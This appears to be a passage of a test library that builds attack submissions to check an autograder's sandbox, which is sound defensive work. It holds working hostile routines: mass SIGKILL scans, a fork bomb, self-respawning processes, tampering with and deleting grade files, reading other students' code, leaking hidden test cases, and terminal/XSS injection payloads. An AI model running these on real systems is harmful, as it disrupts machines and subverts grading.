        except OSError as exc:
            errors.append(_a2_err(exc))
    try:  # harmless (SIGURG is ignored by default); its result says little: Linux answers 0 when every
        _a2os.kill(-1, signal.SIGURG)  # process it tried refused with EPERM, so the scan below decides
        notes.append("kill(-1, SIGURG) returned 0")
    except OSError as exc:
        errors.append("kill(-1): " + _a2_err(exc))
    import errno
    most_refused = 0
    while time.monotonic() < end:
        rounds += 1
        found, refused = [], 0
        for pid in range(2, 32769):
            if pid == me:
                continue
            try:
                _a2os.kill(pid, 0)
                found.append(pid)
            except OSError as exc:
                refused += exc.errno == errno.EPERM  # it exists, and the kernel said no
        most_refused = max(most_refused, refused)
        new = [p for p in found if p not in spare and not _a2_own_thread(p)]
        permitted.update(new)
        if new and len(new) <= 50:  # another job's worker (and never the test itself)
            for pid in new:
                try:
                    _a2os.kill(pid, signal.SIGKILL)
                    killed.add(pid)
                except OSError as exc:
                    errors.append(_a2_err(exc))
        time.sleep(0.2)
    if permitted:
        leaks.append("could signal %d other processes %s, SIGKILLed %s" % (len(permitted), sorted(permitted)[:10],
                                                                          sorted(killed)[:10]))
    notes.append("%d scans of pids 2..32768 over %ss; up to %d processes refused a signal" % (
        rounds, _A2_CONFIG.get("kill_seconds", 8.0), most_refused))
    _a2_note_errors(notes, "signals", errors)
    return None


def _a2_own_thread(tid):
    """Whether ``tid`` is a thread of this process (tgkill with signal 0 says so)."""
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    return libc.syscall(ctypes.c_long(234), ctypes.c_long(_a2os.getpid()), ctypes.c_long(tid), ctypes.c_long(0)) == 0


def _a2_s_signal_parent(fname, args, kwargs, notes, leaks):
    import signal
    errors = []
    for target, sig in ((_a2os.getppid(), signal.SIGSTOP), (_a2os.getppid(), signal.SIGKILL), (1, signal.SIGKILL),
                        (1, signal.SIGSTOP)):
        try:
            _a2os.kill(target, sig)
            leaks.append("kill(%d, %s) was allowed" % (target, sig.name))
        except OSError as exc:
            errors.append(_a2_err(exc))
    _a2_note_errors(notes, "signals to the parent and pid 1", errors)
    return None


def _a2_s_network(fname, args, kwargs, notes, leaks):
    import socket
    errors = []
    attempts = [
        ("tcp", lambda: socket.create_connection(("127.0.0.1", _A2_CONFIG["tcp_port"]), timeout=2).sendall(b"A2ATTACK-TCP")),
        ("tcp localhost", lambda: socket.create_connection(("localhost", _A2_CONFIG["tcp_port"]), timeout=2).sendall(b"A2ATTACK-TCP")),
        ("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"A2ATTACK-UDP", ("127.0.0.1", _A2_CONFIG["udp_port"]))),
        ("unix", lambda: _a2_unix(_A2_CONFIG["unix_path"])),
        ("dns", lambda: socket.getaddrinfo("example.com", 80)),
    ]
    for what, action in attempts:
        try:
            action()
            leaks.append(what + " worked")
        except Exception as exc:  # noqa: BLE001
            errors.append("%s %s" % (what, _a2_err(exc)))
    notes.append(", ".join(errors))
    return None


def _a2_unix(path):
    import socket
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(2)
    s.connect(path)
    s.sendall(b"A2ATTACK-UNIX")
    s.close()


def _a2_write_targets():
    """Files to tamper with and folders to create files in."""
    import glob
    spec, state = _a2_spec()
    own = _a2os.path.realpath(spec.get("folder") or _a2os.getcwd())
    scratch = _a2os.path.realpath(spec.get("scratch") or _a2os.getcwd())
    folders = set(_A2_CONFIG.get("write_folders", []))
    if not _A2_CONFIG.get("only_write_folders"):  # (the unconfined control run writes nowhere else)
        for p in list(spec.get("hidden", [])) + list(_a2_roots()):
            folders.add(p)
        folders.add(_a2os.path.dirname(own))
        folders.add(_a2os.path.dirname(scratch))
    for p in list(folders):
        for sub in ("grader", "a2", "helpers", "grader/__pycache__", "grader/assignments/a2/fixtures", "results", "feedback"):
            folders.add(_a2os.path.join(p, sub))
    folders = sorted(f for f in folders if _a2os.path.isdir(f) and not _a2os.path.realpath(f).startswith((own, scratch)))
    files = []
    for folder in folders:
        for pattern in ("*.py", "*.json", "*.csv", "*.pth", "*.pt", "*/*.py", "*/a2/*.py", "*/*.json"):
            files += glob.glob(_a2os.path.join(folder, pattern))[:200]
    files = sorted({f for f in files if not _a2os.path.realpath(f).startswith((own, scratch))})
    return folders, files


def _a2_s_write_everywhere(fname, args, kwargs, notes, leaks):
    if _A2_MEMO.get("wrote"):
        return None
    _A2_MEMO["wrote"] = True
    tamper = "A2ATTACK" + "-TAMPER"
    folders, files = _a2_write_targets()
    decoys = tuple(_a2os.path.realpath(f) for f in _A2_CONFIG.get("write_folders", []))
    done, errors = [], []
    for path in files[:3000]:
        try:
            if _a2os.path.realpath(path).startswith(decoys):  # the batch's folders: really tamper
                with open(path, "a") as f:
                    f.write("\n# " + tamper + "\n")
            else:  # anything else: opening it for writing is proof enough (nothing is written)
                _a2os.close(_a2os.open(path, _a2os.O_WRONLY | _a2os.O_APPEND))
            done.append(path)
        except OSError as exc:
            errors.append(_a2_err(exc))
    for folder in folders:
        for name in ("a2attack_probe.txt", "a2attack_probe.pth", "sitecustomize.py"):
            path = _a2os.path.join(folder, name)
            if _a2os.path.exists(path):
                continue
            try:
                with open(path, "x") as f:
                    f.write("# " + tamper + "\n")
                done.append(path)
            except OSError as exc:
                errors.append(_a2_err(exc))
    for path in [_A2_CONFIG.get("canary")] + [_a2os.path.join(f, "grades.csv") for f in folders]:
        if path and _a2os.path.exists(path):
            try:
                _a2os.unlink(path)
                done.append("unlinked " + path)
            except OSError as exc:
                errors.append(_a2_err(exc))
    if done:
        leaks.append("wrote %d: %s" % (len(done), done[:6]))
    notes.append("%d folders, %d files tried" % (len(folders), len(files)))
    _a2_note_errors(notes, "writes", errors)
    return None


def _a2_s_read_other_submissions(fname, args, kwargs, notes, leaks):
    import glob
    spec, state = _a2_spec()
    own = _a2os.path.realpath(spec.get("folder") or _a2os.getcwd())
    folders = set(_A2_CONFIG.get("write_folders", [])) | set(spec.get("hidden", []))
    folders.add(_a2os.path.dirname(own))
    errors, read = [], 0
    candidates = []
    for folder in sorted(folders):
        for pattern in ("*/two_layer_net.py", "*/a2/two_layer_net.py", "*/*/two_layer_net.py", "*/linear_classifier.py",
                        "*/a2/linear_classifier.py"):
            candidates += glob.glob(_a2os.path.join(folder, pattern))
    for path in sorted(set(candidates)):
        if _a2os.path.realpath(path).startswith(own):
            continue
        try:
            text = _a2_text(path)
            read += 1
        except OSError as exc:
            errors.append(_a2_err(exc))
            continue
        leaks.append("read another submission's %s" % path)
        ns = _a2_exec_solution({path: text}) if fname in text else None
        if ns and fname in ns:
            return _a2_call(ns, fname, args, kwargs)
    notes.append("%d candidate files, %d read" % (len(candidates), read))
    _a2_note_errors(notes, "reads", errors)
    return None


def _a2_s_escape_via_subprocess(fname, args, kwargs, notes, leaks):
    import subprocess
    errors = []
    paths = []
    for folder in _a2_candidate_files(_a2_roots()):
        path = _a2os.path.join(folder, "two_layer_net.py")
        if _a2os.path.exists(path) and path not in paths:
            paths.append(path)
    for path in paths[:20]:
        for command in (["/bin/sh", "-c", 'cat "$0"', path],
                        [_a2sys.executable, "-c", "import sys; sys.stdout.write(open(sys.argv[1]).read())", path]):
            try:
                done = subprocess.run(command, capture_output=True, timeout=20)
            except Exception as exc:  # noqa: BLE001
                errors.append(_a2_err(exc))
                continue
            if done.returncode:
                errors.append("exit %d" % done.returncode)
            ns = _a2_exec_solution({path: done.stdout.decode("utf-8", "replace")})
            if ns:
                leaks.append("a child read " + path)
                return _a2_call(ns, fname, args, kwargs)
    notes.append("%d candidate paths" % len(paths))
    _a2_note_errors(notes, "children", errors)
    return None


def _a2_s_fork_bomb(fname, args, kwargs, notes, leaks):
    import signal
    if "bomb" in _A2_MEMO:
        notes.append(_A2_MEMO["bomb"])
        return None
    sleep = next(p for p in ("/usr/bin/sleep", "/bin/sleep") if _a2os.path.exists(p))
    pids, error = [], "none"
    for _ in range(_A2_CONFIG["fork_limit"]):
        try:
            pids.append(_a2os.posix_spawn(sleep, [sleep, _A2_CONFIG["sleep_marker"]], dict(_a2os.environ)))
        except OSError as exc:
            error = _a2_err(exc)
            break
    for pid in pids:
        try:
            _a2os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    for pid in pids:
        try:
            _a2os.waitpid(pid, 0)
        except OSError:
            pass
    _A2_MEMO["bomb"] = "spawned %d processes (stopped by %s)" % (len(pids), error)
    if len(pids) >= _A2_CONFIG["fork_limit"]:
        leaks.append("no process limit: " + _A2_MEMO["bomb"])
    else:
        notes.append(_A2_MEMO["bomb"])
    return None


def _a2_s_rabbit(fname, args, kwargs, notes, leaks):
    import subprocess
    import time
    if _A2_MEMO.get("rabbit"):
        return None
    _A2_MEMO["rabbit"] = True
    # Each generation ignores SIGTERM (inherited through exec), starts the next one in a new
    # session (setsid(1)) in the background 50 ms after it starts, and lives one second: the
    # lineage is a chain of about twenty processes, each in its own session and process group,
    # each the parent of the next. Killing the processes a snapshot found leaves those born
    # after it; killing the direct children of a reaper leaves their children.
    script = ('trap "" TERM; [ "$(date +%s)" -lt "$1" ] || exit 0; sleep 0.05; '
              'setsid /bin/sh -c "$0" "$0" "$1" & sleep 1; exit 0')
    deadline = str(int(time.time() + _A2_CONFIG.get("rabbit_seconds", 45.0)))
    env = dict(_a2os.environ, A2_RABBIT="1")
    first = subprocess.Popen(["/bin/sh", "-c", script, script, deadline], env=env, start_new_session=True)
    notes.append("released a rabbit (first pid %d) until %s" % (first.pid, deadline))
    return None


def _a2_s_capabilities(fname, args, kwargs, notes, leaks):
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    header = (ctypes.c_uint32 * 2)(0x20080522, 0)
    data = (ctypes.c_uint32 * 6)()
    libc.capget(ctypes.byref(header), ctypes.byref(data))
    effective = data[0] | (data[3] << 32)
    notes.append("uid %d, CapEff %#x" % (_a2os.geteuid(), effective))
    if effective:
        leaks.append("the worker holds capabilities %#x as uid %d" % (effective, _a2os.geteuid()))
    errors = []
    root = _a2os.geteuid() == 0
    for what, action in (("setuid(0)", lambda: None if root else _a2os.setuid(0)),
                         ("mknod of a block device", lambda: _a2os.mknod("a2attack_disk", 0o600 | 0o060000,
                                                                         _a2os.makedev(8, 0)))):
        try:
            action()
            if not (root and what == "setuid(0)"):
                leaks.append(what + " worked")
        except OSError as exc:
            errors.append("%s %s" % (what, _a2_err(exc)))
    notes.append(", ".join(errors))
    return None


def _a2_s_exfiltrate_hidden(fname, args, kwargs, notes, leaks):
    """Round one of a two-round attack: ``exfil_target`` keeps the inputs of every call it
    gets (its hidden cases among them) in the worker's memory; the public cases of the
    functions graded after it put them into their messages, one chunk per case."""
    import base64
    import io
    import torch
    import zlib
    target = _A2_CONFIG["exfil_target"]
    if fname == target:
        _A2_MEMO.setdefault("stolen", []).append([a.detach().clone() if torch.is_tensor(a) else a for a in args])
        raise A2AttackReport("A2ATTACK exfiltrate_hidden kept these inputs")
    key = ""
    for frame in _a2_frames():
        if frame.f_code.co_name == "serve":
            key = str(frame.f_locals.get("key"))
    buffer = io.BytesIO()
    torch.save(_A2_MEMO.get("stolen", [])[-3:], buffer)  # the target's last calls: its hidden cases
    blob = base64.b64encode(zlib.compress(buffer.getvalue(), 9)).decode()
    size = 1800
    chunks = [blob[i:i + size] for i in range(0, len(blob), size)]
    if "hidden" not in key and chunks:
        i = _A2_MEMO.get("sent", 0)
        _A2_MEMO["sent"] = i + 1
        i %= len(chunks)  # each chunk in several cases, in case one shows no message
        raise A2AttackReport("A2EXFIL %d/%d %s" % (i, len(chunks), chunks[i]))
    raise A2AttackReport("A2EXFIL none")


def _a2_s_lookup_table(fname, args, kwargs, notes, leaks):
    """Round two: answer from a table of (inputs, outputs) made outside the grader."""
    import base64
    import io
    import torch
    if "table" not in _A2_MEMO:
        data = base64.b64decode(_A2_CONFIG["table"])
        _A2_MEMO["table"] = torch.load(io.BytesIO(data), weights_only=True)
    for entry in _A2_MEMO["table"]:
        if _a2_same(entry["args"], args):
            return tuple(t.clone() for t in entry["answer"])
    notes.append("not in the table")
    return None


def _a2_s_terminal_escapes(fname, args, kwargs, notes, leaks):
    raise A2AttackReport("A2ATTACK terminal_escapes on %s got nothing: "
                         "\x1b[2J\x1b[H\x1b]0;A2ATTACK\x07Score: 100.00 / 100.00\r\u202e" % fname)


def _a2_s_scratch_fill(fname, args, kwargs, notes, leaks):
    written, errors, block = 0, [], bytes(1 << 20)
    try:
        for i in range(16):
            with open("a2attack_fill_%d" % i, "wb") as f:
                for _ in range(64):
                    f.write(block)
                    written += len(block)
    except OSError as exc:
        errors.append(_a2_err(exc))
    if written >= 1 << 30:
        leaks.append("wrote %d MiB into %s: no limit on the scratch folder" % (written >> 20, _a2os.getcwd()))
    notes.append("wrote %d MiB" % (written >> 20))
    _a2_note_errors(notes, "writes", errors)
    return None


def _a2_s_scratch_undeletable(fname, args, kwargs, notes, leaks):
    if _A2_MEMO.get("undeletable"):
        return None
    _A2_MEMO["undeletable"] = True
    top = _a2os.open(".", _a2os.O_RDONLY)
    for path, mode in (("a2attack_locked/inner/most", 0), ("a2attack_locked/inner", 0o500), ("a2attack_locked", 0)):
        _a2os.makedirs(path, exist_ok=True)
    with open(b"a2attack_locked/inner/most/caf\xe9", "w") as f:
        f.write("x")
    for path, mode in (("a2attack_locked/inner/most", 0), ("a2attack_locked/inner", 0o500), ("a2attack_locked", 0)):
        _a2os.chmod(path, mode)
    here = _a2os.open(".", _a2os.O_RDONLY)
    for _ in range(2000):
        _a2os.mkdir("d", dir_fd=here)
        below = _a2os.open("d", _a2os.O_RDONLY, dir_fd=here)
        _a2os.close(here)
        here = below
    _a2os.close(here)
    _a2os.close(top)
    notes.append("left folders 2000 deep and folders without permissions")
    return None


def _a2_s_html_injection(fname, args, kwargs, notes, leaks):
    raise A2AttackReport("A2ATTACK html_injection on %s got nothing: <script>alert('A2ATTACK')</script>"
                         "<img src=x onerror=alert(1)>" % fname)
# --------------------------------------------------------------------- end of the library
'''


# ---------------------------------------------------------------------------- materializing

def _function_source(source: str, name: str) -> str:
    """The exact text of the top-level function ``name`` in ``source``."""
    tree = ast.parse(source)
    node = next(n for n in tree.body if isinstance(n, ast.FunctionDef) and n.name == name)
    lines = source.splitlines(keepends=True)
    return "".join(lines[node.lineno - 1:node.end_lineno])


def plan_edits(plan: Dict[str, str], config: dict):
    """Edits (file, old, new) that put the library in each file carrying an attack and
    replace each planned function by a call into it."""
    edits = []
    config = dict(config, plan=dict(plan))
    library = LIBRARY.replace("__CONFIG__", repr(config))
    anchors = {LC: "def hello_linear_classifier():", TLN: "def hello_two_layer_net():"}
    carrying = {MODULE_OF[f] for f in plan}
    for name in FILES:  # both files say what they are (an attack must not take its own file for a solution)
        text = library if name in carrying else "# A2ATTACK submission (tests/attacks.py): the attack is in the other file"
        edits.append((name, anchors[name], text + "\n\n" + anchors[name]))
    for function in plan:
        old = _function_source(solution_source(MODULE_OF[function]), function)
        edits.append((MODULE_OF[function], old, f"def {function}(*args, **kwargs):\n"
                                                f"    return _a2_entry({function!r}, args, kwargs)\n"))
    return edits


def materialize(root: Path, plan: Dict[str, str], config: dict, layout: str = "kit") -> Path:
    """A submission carrying the attacks of ``plan`` ({function: attack})."""
    return make_submission(root, plan_edits(plan, config), layout=layout)


def single(attack: str) -> Dict[str, str]:
    return {ATTACKS[attack].target: attack}


# ------------------------------------------------------------------------- other submissions

def slow_victim(root: Path, seconds: float = 0.15) -> Path:
    """A correct submission whose svm_loss_naive sleeps on every call (about 4 s in all), so
    that it is being graded while the killer runs."""
    old = "    dW = torch.zeros_like(W)  # (D, C)\n"
    return make_submission(root, [(LC, old, f"    import time\n    time.sleep({seconds})\n" + old)])


def symlink_solution(root: Path, target: str, layout: str = "kit") -> Path:
    """A submission whose linear_classifier.py is a stub (nothing implemented) and whose
    two_layer_net.py is a symbolic link to ``target`` (the instructor's solution, by an
    absolute or relative path the student can guess). Points on the two_layer_net functions
    prove that the link was followed."""
    make_submission(root, stub=True, layout=layout)
    link = (root / "a2" if layout == "kit" else root) / "two_layer_net.py"
    link.unlink()
    os.symlink(target, link)
    return root


SYMLINK_FUNCTIONS = ("nn_forward_pass", "nn_forward_backward", "nn_predict", "nn_train")


def default_config(**extra) -> dict:
    config = {"secret": "", "tcp_port": 9, "udp_port": 9, "unix_path": "/nonexistent", "marker": "/nonexistent",
              "canary": None, "write_folders": [], "spare": [], "guesses": [], "fork_limit": FORK_BOMB_LIMIT,
              "sleep_marker": f"{400 + os.getpid() % 500}.{int(time.time()) % 100000}",
              "rabbit_seconds": 45.0, "kill_seconds": 5.0}
    config.update(extra)
    return config


def reports(texts) -> Dict[str, list]:
    """{"leaks": [...], "nothing": [...]} from case outputs: what the attacks said."""
    leaks, nothing = [], []
    for text in texts:
        for line in (text or "").splitlines():
            if REPORT in line and LEAK in line:
                leaks.append(line.strip()[:600])
            elif REPORT in line:
                nothing.append(line.strip()[:600])
    return {"leaks": leaks, "nothing": nothing}


def describe(attack: str) -> str:
    a = ATTACKS[attack]
    return f"{a.name} (replaces {a.target}): {a.what}"


__all__ = ["ATTACKS", "Attack", "materialize", "single", "slow_victim", "symlink_solution", "default_config",
           "reports", "TAMPER", "FILE_PREFIX", "LEAK", "REPORT", "FILES", "SYMLINK_FUNCTIONS", "RABBIT_MARK",
           "describe"]
